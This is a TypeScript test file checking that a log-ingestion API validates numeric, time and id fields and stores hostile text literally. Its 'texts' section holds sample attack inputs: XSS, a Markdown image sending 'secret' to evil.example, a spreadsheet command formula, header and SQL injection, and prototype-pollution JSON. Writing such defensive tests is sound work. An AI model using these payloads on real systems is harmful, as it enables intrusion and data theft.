/** Values that look harmless and are not: numbers, times, ids and texts of a log. */
import { newId } from '#server/ids';
import { expectContract, expectError, expectUnharmed } from '#tests/support/expectContract';
import { aLogInput, aSpanInput } from '#tests/support/factories';
import { type Called, startTestApp, type TestApp } from '#tests/support/testApp';

const NOW = new Date('2026-06-15T12:00:00.000Z');

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp({ clock: () => NOW });
});
afterAll(() => app.stop());

afterEach(() => expectUnharmed(app));

const post = (body: unknown): Promise<Called> => app.call('POST', '/api/v1/logs', { body });
/** With one field as JSON text, since JavaScript cannot write all that JSON can. */
const postField = (field: string, json: string): Promise<Called> =>
  app.call('POST', '/api/v1/logs', { rawBody: `${JSON.stringify(aLogInput()).slice(0, -1)},"${field}":${json}}` });

async function readBack(called: Called): Promise<Called['body']> {
  expectContract('createLogs', called, 201);
  const read = await app.call('GET', `/api/v1/requests/${called.body.id}`);
  expect(read.body).toEqual(called.body);
  return read.body;
}

/** A bad value is a 400 alone, and inside a batch it is rejected alone. */
async function expectRejected(field: string, json: string, param = field): Promise<void> {
  expectError(await postField(field, json), 'invalid_value', { param });
  const good = JSON.stringify(aLogInput());
  const bad = `${good.slice(0, -1)},"${field}":${json}}`;
  const batch = await app.call('POST', '/api/v1/logs', { rawBody: `{"logs":[${good},${bad},${good}]}` });
  expectContract('createLogs', batch, 207);
  expect(batch.body).toMatchObject({ created: 2, rejected: 1 });
  expect(batch.body.results[1]).toMatchObject({ status: 'rejected', error: { code: 'invalid_value', param } });
}

describe('numbers', () => {
  test.each([
    ['2147483648'],
    ['1e18'],
    ['1.5'],
    ['-1'],
    ['"12"'],
    ['true'],
    ['[]'],
    ['9007199254740993'],
    ['9223372036854775807'],
  ])('%s tokens are refused', async (json) => {
    for (const field of ['input_tokens', 'output_tokens', 'cached_input_tokens']) await expectRejected(field, json);
  });

  test.each([
    ['1e3', 1_000],
    ['12.0', 12],
    ['-0', 0],
    ['0', 0],
    ['null', null],
    ['1000000000', 1_000_000_000],
  ])('%s tokens are stored', async (json, stored) => {
    const body = await readBack(await postField('input_tokens', json));
    expect(body.input_tokens).toBe(stored);
    expect(JSON.stringify(body.input_tokens)).not.toBe('-0');
  });

  test.each(['-1', '-0.01', '1e10000', '1e11', '"5"', 'true'])('a latency of %s ms is refused', async (json) => {
    // 1e10000 is no number at all once it is parsed, so that it has no field to name.
    if (json === '1e10000') expectError(await postField('latency_ms', json), 'invalid_value');
    else await expectRejected('latency_ms', json);
    expect(json).toBeTruthy();
  });

  test.each([
    ['1e7'],
    ['1000000'],
    ['-0.01'],
    ['"NaN"'],
    ['"-1"'],
    ['"1e3"'],
    ['"Infinity"'],
    ['""'],
    ['"0x10"'],
    ['"0.1234567890123"'],
    ['true'],
  ])('a cost of %s is refused', async (json) => {
    await expectRejected('cost_usd', json);
  });

  test.each([
    ['1e-30', '0'],
    ['0.1', '0.1'],
    ['"0.100"', '0.1'],
    ['"00012.50"', '12.5'],
    ['"999999.99"', '999999.99'],
    ['0.000001234567', '0.000001234567'],
    ['-0', '0'],
  ])('a cost of %s is stored as %s', async (json, stored) => {
    expect((await readBack(await postField('cost_usd', json))).cost_usd).toBe(stored);
  });
});

describe('times', () => {
  test.each([
    'now',
    'infinity',
    '-infinity',
    'tomorrow',
    'epoch',
    '',
    '2024-02-30T00:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-01-31',
    '2026-01-31T12:00:00',
    '2026-01-31 12:00:00Z',
    '2026-06-15T24:00:00Z',
    '2026-06-15T12:00:60Z',
    '+275760-09-13T00:00:00Z',
    '0001-01-01T00:00:00Z',
    '9999-12-31T23:59:59Z',
    '1970-01-01T00:00:00Z',
    '2026-06-15T13:00:00.001Z',
    '2021-06-15T00:00:00Z',
    'Mon, 15 Jun 2026 12:00:00 GMT',
    '１２３４-01-01T00:00:00Z',
  ])('"%s" is no time that we believe', async (time) => {
    await expectRejected('started_at', JSON.stringify(time));
  });

  test.each(['1781524800', '1781524800000', '1781524800000000', 'true', '{}'])(
    'a time given as %s is refused',
    async (json) => {
      await expectRejected('started_at', json);
    },
  );

  test.each([
    ['2026-06-15T13:00:00Z', '2026-06-15T13:00:00.000Z'],
    ['2021-06-17T12:00:00Z', '2021-06-17T12:00:00.000Z'],
    ['2026-06-15T14:00:00+02:00', '2026-06-15T12:00:00.000Z'],
    ['2026-06-15T23:00:00+23:00', '2026-06-15T00:00:00.000Z'],
    ['2026-06-15T12:00:00.123456789Z', '2026-06-15T12:00:00.123Z'],
    ['2024-02-29T00:00:00Z', '2024-02-29T00:00:00.000Z'],
  ])('%s is stored as %s', async (given, stored) => {
    expect((await readBack(await post(aLogInput({ started_at: given })))).started_at).toBe(stored);
  });

  test('null is the time of arrival less the latency', async () => {
    const body = await readBack(await post(aLogInput({ started_at: null, latency_ms: 1_500 })));
    expect(body.started_at).toBe('2026-06-15T11:59:58.500Z');
  });
});

describe('ids', () => {
  test.each([
    '',
    'x'.repeat(1_000),
    '../../x',
    '{0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b}',
    ' 0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b',
    '0190a1b2c3d47e5f8a9b0c1d2e3f4a5b',
    '0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5g',
    '🔑',
    'my-own-id',
    '\ud83d',
    '0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b\u0000',
  ])('the id %j is refused: only UUIDs are accepted', async (id) => {
    await expectRejected('id', JSON.stringify(id));
  });

  test('null means that the server makes one, and upper case becomes lower case', async () => {
    expect((await readBack(await post(aLogInput({ id: null })))).id).toMatch(/^[0-9a-f-]{36}$/);
    const id = newId();
    expect((await readBack(await post(aLogInput({ id: id.toUpperCase() })))).id).toBe(id);
  });

  test.each(['not-a-uuid', '..', '%00', 'undefined', '0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b;', "' OR 1=1 --"])(
    'a request named %s is a 400 that names request_id',
    async (id) => {
      const called = await app.call('GET', `/api/v1/requests/${id === '..' ? '%2e%2e' : encodeURIComponent(id)}`);
      expect([400, 404]).toContain(called.status);
      if (id !== '..') expectError(called, 'invalid_value', { param: 'request_id' });
      expect(called.text).not.toMatch(/uuid: "|22P02/);
    },
  );
});

describe('texts', () => {
  test('a NUL in the words becomes U+FFFD', async () => {
    const body = await readBack(
      await post(
        aLogInput({
          messages: [{ role: 'user', content: 'a\u0000b' }],
          response_content: '\u0000',
          metadata: { k: ['\u0000'] },
          tags: { env: 'pr\u0000od' },
          error: { message: 'x\u0000' },
        }),
      ),
    );
    expect(body).toMatchObject({
      messages: [{ role: 'user', content: 'a\uFFFDb' }],
      response_content: '\uFFFD',
      metadata: { k: ['\uFFFD'] },
      tags: { env: 'pr\uFFFDod' },
      error: { message: 'x\uFFFD' },
    });
  });

  test.each(['model', 'provider', 'name', 'trace_id', 'user_id', 'prompt_slug', 'environment'])(
    'a NUL or half a character in %s is refused: an identifier that was changed would name another thing',
    async (field) => {
      for (const text of ['a\u0000b', 'a\ud83d', '\udc00']) await expectRejected(field, JSON.stringify(text));
    },
  );

  test('a NUL in the name of a tag is refused', async () => {
    expectError(await post(aLogInput({ tags: { 'e\u0000nv': 'prod' } })), 'invalid_value', { message: /tags/ });
  });

  test('a NUL in the name of a span is refused', async () => {
    const span = aSpanInput({ name: 'a\u0000b', started_at: NOW.toISOString() });
    const called = await app.call('POST', '/api/v1/spans', { body: { spans: [span] } });
    expectContract('createSpans', called, 400);
    expect(called.body.results[0]).toMatchObject({ id: span.id, error: { code: 'invalid_value', param: 'name' } });
  });

  test('a NUL in a key never merges it with another', async () => {
    const called = await post({
      ...aLogInput(),
      metadata: { role: 'user', 'ro\u0000le': 'admin', 'ro\uFFFDle': 'third', 'ro\ud800le': 'fourth' },
    });
    const { metadata } = await readBack(called);
    expect(Object.values(metadata)).toEqual(['user', 'admin', 'third', 'fourth']);
    expect(metadata).toMatchObject({ role: 'user', 'ro\uFFFDle': 'third' });
  });

  test('the six characters \\u0000 are text', async () => {
    const content = 'not a NUL: \\u0000, nor \\\\u0000';
    expect((await readBack(await post(aLogInput({ response_content: content })))).response_content).toBe(content);
  });

  test('half a character becomes U+FFFD, a whole one stays', async () => {
    const body = await readBack(
      await post(aLogInput({ response_content: '\ud83d|😀|\udc00', metadata: { '\ud83d': '\ud83d' } })),
    );
    expect(body.response_content).toBe('\uFFFD|😀|\uFFFD');
    expect(body.metadata).toEqual({ '\uFFFD': '\uFFFD' });
  });

  test.each([
    ['{"__proto__":{"isAdmin":true},"a":1}'],
    ['{"constructor":{"prototype":{"x":1}}}'],
    ['{"constructor":1,"prototype":2,"__proto__":3,"toString":4,"hasOwnProperty":5}'],
    ['{"a.__proto__.x":1,"a[0].b":2,"a.b":3}'],
  ])('metadata of %s is kept literally, and touches no prototype', async (json) => {
    const called = await postField('metadata', json);
    expectContract('createLogs', called, 201);
    const read = await app.call('GET', `/api/v1/requests/${called.body.id}`);
    expect(read.text).toContain(`"metadata":${json}`);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  test('a field named __proto__ is an unknown field like any other', async () => {
    const called = await postField('__proto__', '{"org_id":"x","model":"y"}');
    expectContract('createLogs', called, 201);
    expect(called.body.model).toBe('gpt-4o-mini');
    expect(called.text).toContain('"metadata":{"__proto__":{"org_id":"x","model":"y"}}');
  });

  test.each([
    ['HTML', '<img src=x onerror=alert(1)></script><script>alert(1)</script>'],
    ['Markdown with a script and an image', '[x](javascript:alert(1)) ![](https://evil.example/p.png?d=secret)'],
    ['text with control and combining characters', `\u202E${'\u200B'.repeat(100)}${'Z\u0351\u036B'.repeat(1_000)}`],
    ['a formula of a spreadsheet', "=cmd|'/c calc'!A1"],
    ['a line of a header', 'a\r\nSet-Cookie: a=b'],
    ['terminal controls and a line of a log', '\u001b[2J\nfake log line'],
    ['SQL', "'; DROP TABLE requests; --"],
    ['placeholders', '$1 %s {{x}} ${x} :name ?'],
  ])('%s in the words is stored as it is', async (_, text) => {
    const body = await readBack(
      await post(
        aLogInput({
          messages: [{ role: 'user', content: text }],
          response_content: text,
          metadata: { [text.slice(0, 250)]: text },
        }),
      ),
    );
    expect(body.response_content).toBe(text);
    expect(body.messages[0].content).toBe(text);
    expect(Object.entries(body.metadata)).toEqual([[text.slice(0, 250), text]]);
  });

  test('the same id with another body: 200, the stored one is unchanged, and the answer says that they differ', async () => {
    const id = newId();
    const first = await post(aLogInput({ id, model: 'first' }));
    const second = await post(aLogInput({ id, model: 'second' }));
    expectContract('createLogs', second, 200);
    expect(second.body).toEqual({ ...first.body, conflict: true });
    expect(second.headers.get('x-promptlab-conflict')).toBe('true');
  });
});
